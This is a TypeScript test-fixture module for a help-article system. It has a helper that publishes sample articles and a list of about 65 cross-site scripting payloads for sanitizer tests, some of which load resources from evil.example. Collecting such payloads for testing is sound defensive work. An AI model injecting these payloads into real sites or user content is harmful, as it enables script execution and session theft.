/** Builders for tests. */
import { randomUUID } from 'node:crypto';
import type { Db } from '#platform/postgres';
import { indexPublished } from './articles/publish.ts';
import * as articles from './articles/store.ts';

export interface Fixture {
  title: string;
  body: string;
  labels?: string[];
  locale?: string;
  audience?: 'public' | 'internal';
  pages?: string[];
  segments?: string[];
}

/** Articles of one space, published and vouched for, owned by nobody in particular. Answers their ids. */
export function publishAll(db: Db, workspaceId: string, wanted: readonly Fixture[]): Promise<string[]> {
  return db.inWorkspace(
    workspaceId,
    async (tx) => {
      const spaceId = randomUUID();
      const space = { slug: `s-${spaceId}`, name: 'Help', description: '', audience: 'public', ownerId: null } as const;
      await articles.insertSpace(tx, workspaceId, spaceId, space);
      const ids: string[] = [];
      for (const { title, body, labels = [], locale = 'en', audience = 'public', pages = [], segments = [] } of wanted) {
        const id = randomUUID();
        const ownerId = randomUUID();
        const facts = { id, slug: `a-${id}`, spaceId, ownerId, audience, labels, pages, segments };
        const review = { reviewDays: 180, graceDays: 30, proposedBy: null, createdBy: 'test' };
        await articles.insertArticle(tx, workspaceId, { ...facts, ...review });
        await articles.insertVersion(tx, workspaceId, id, {
          locale,
          title,
          summary: '',
          body,
          savedBy: 'test',
          restoredFrom: null,
        });
        await articles.publish(tx, workspaceId, id, locale);
        await articles.verify(tx, workspaceId, id, 'test');
        await indexPublished(tx, workspaceId, id);
        ids.push(id);
      }
      return ids;
    },
    { timeoutMs: 60_000 },
  );
}

/** What people have tried in help articles elsewhere (GHSA-jpq8-j69f-mj98, CVE-2026-44990, freescout#5438 and their kin). */

const run = 'alert(1)';

export const hostile: readonly string[] = [
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<template><img src=x onerror=${run}></template>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<details open ontoggle=${run}>`,
  `<body onload=${run}>`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<style>@import 'https://evil.example';*{background:url(https://evil.example)}</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<!--<img src="--><img src=x onerror=${run}//">`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `[click](javascript:${run})`,
  `[click](JaVaScRiPt:${run})`,
  `[click](java&#10;script:${run})`,
  `[click](&#106;avascript:${run})`,
  `[click](javascript&colon;${run})`,
  `[click](<java\tscript:${run}>)`,
  `[click](data:text/html,<script>${run}</script>)`,
  `[click](vbscript:msgbox(1))`,
  `[click][1]\n\n[1]: javascript:${run}`,
  `<javascript:${run}>`,
  `[click](https://casa.example" onmouseover="${run})`,
  `[click](https://casa.example '" onmouseover=${run} x="')`,
  `[click](https://casa.example/"><script>${run}</script>)`,
  `![x](x" onerror="${run})`,
  `![x" onerror="${run}](https://casa.example/x.png)`,
  `![x](javascript:${run})`,
  `![x](https://casa.example/x.png "\\" onerror=${run}")`,
  `\`\`\`"><img src=x onerror=${run}>\n<script>${run}</script>\n\`\`\``,
  `\`<script>${run}</script>\``,
  `# <img src=x onerror=${run}>`,
  `# x" onclick="${run}`,
  `| <script>${run}</script> | b |\n|---|---|\n| <img src=x onerror=${run}> | [x](javascript:${run}) |`,
  `> <script>${run}</script>`,
  `- [ ] <img src=x onerror=${run}>`,
  `<code><img src=x onerror=${run}></code>`,
  `<pre><script>${run}</script></pre>`,
  `<kbd></kbd><script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\<script>${run}</script>`,
  `<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>`,
  `<<script>${run};//<</script>`,
  `<img """><script>${run}</script>">`,
  `<input onfocus=${run} autofocus>`,
  `<video><source onerror=${run}></video>`,
  `<marquee onstart=${run}>`,
  `<button formaction=javascript:${run}>x</button>`,
  `<x contenteditable onblur=${run}>lose focus</x>`,
  `\u0000<script>${run}</script>`.replace('\u0000', '\u0001'),
  `https://casa.example/"onmouseover="${run}`,
  `www.casa.example/<script>${run}</script>`,
  `<https://casa.example/"onmouseover=${run}>`,
  "{{constructor.constructor('alert(1)')()}}",
];
